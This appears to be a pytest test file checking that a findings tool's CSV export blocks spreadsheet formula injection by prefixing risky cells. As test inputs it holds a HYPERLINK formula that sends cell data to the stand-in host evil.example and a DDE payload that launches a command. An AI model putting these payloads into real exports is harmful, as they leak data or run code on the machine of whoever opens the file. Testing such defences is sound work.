"""CSV exports under hostile text: nothing a participant can put in a finding runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from sandboxwatch.store.exports import csv_cell, findings_csv
from sandboxwatch.store.history import STORED_FINDING_FIELDS


def finding(**values: Any) -> dict[str, Any]:
    base: dict[str, Any] = dict.fromkeys(STORED_FINDING_FIELDS, "x")
    base.update(evidence=["e1", "e2"], observed="12.5", limit="10", ts=None)
    base.update(values)
    return base


def exported(item: dict[str, Any]) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(findings_csv([item]).decode()))
    return row


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_prefixes_are_neutralised_in_text_cells(text: str, cell: str) -> None:
    assert csv_cell(text) == cell
    assert exported(finding(subject=text, message=text))["subject"] == cell


@pytest.mark.parametrize("number", ["-12.5", "-3", "+7", "10", "-1.5e3", "0.000001"])
def test_numbers_stay_numbers(number: str) -> None:
    row = exported(finding(observed=number, limit=number))
    assert (row["observed"], row["limit"]) == (number, number)


def test_evidence_and_none_cells() -> None:
    row = exported(finding(evidence=["=1+1", "b"], observed=None))
    assert row["evidence"] == "'=1+1;b"
    assert row["observed"] == "" and row["ts"] == ""


def test_line_breaks_inside_a_cell_do_not_split_the_row() -> None:
    item = finding(message="first\rsecond\nthird\r\n=fourth")
    assert exported(item)["message"] == "first\rsecond\nthird\r\n=fourth"
    assert len(list(csv.reader(io.StringIO(findings_csv([item, item]).decode(), newline="")))) == 3
